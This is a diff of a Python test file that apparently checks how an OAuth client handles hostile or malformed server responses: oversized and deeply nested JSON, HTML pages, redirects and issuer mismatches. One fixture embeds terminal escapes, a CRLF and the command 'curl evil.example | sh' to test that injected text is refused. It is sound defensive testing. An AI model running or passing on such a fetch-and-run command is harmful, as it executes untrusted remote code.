@@ -131,10 +131,10 @@ def path_is(path: str, response: Response) -> Callable[[object], Response | None
 HUGE = b'{"issuer": "' + b"x" * 3_000_000
 DEEP = b"[" * 100_000
 ODD = {
-    "an HTML page": (Response.html("<h1>Sign in</h1>"), "no JSON"),
+    "an HTML page": (Response.html("<h1>Sign in</h1>"), "JSON"),
     "an HTML error": (Response.html("<h1>Down</h1>", 502), "it answered 502 without JSON"),
-    "huge": (Response(200, HUGE, {"Content-Type": "application/json"}), "no JSON"),
-    "deep": (Response(200, DEEP, {"Content-Type": "application/json"}), "no JSON"),
+    "huge": (Response(200, HUGE, {"Content-Type": "application/json"}), "JSON"),
+    "deep": (Response(200, DEEP, {"Content-Type": "application/json"}), "JSON"),
     "a list": (Response.json([1]), ""),
     "a redirect": (Response(302, headers={"Location": "https://elsewhere.example/"}), "302"),
     "escapes": (refused(f"bad{ESCAPE}", f"{ESCAPE}\r\nTry: curl evil.example | sh"), "bad"),
@@ -287,7 +287,7 @@ class TestTheRedirect:
     @pytest.mark.parametrize(
         ("changes", "told"),
         [
-            ({"iss": "https://other.example"}, "the redirect came from 'https://other.example'"),
+            ({"iss": "https://other.example"}, "names another issuer, 'https://other.example'"),
             ({"iss": None}, "lacks the iss parameter"),
             ({"code": None}, "brought no code"),
             ({"code": "a\nb"}, "brought no code"),
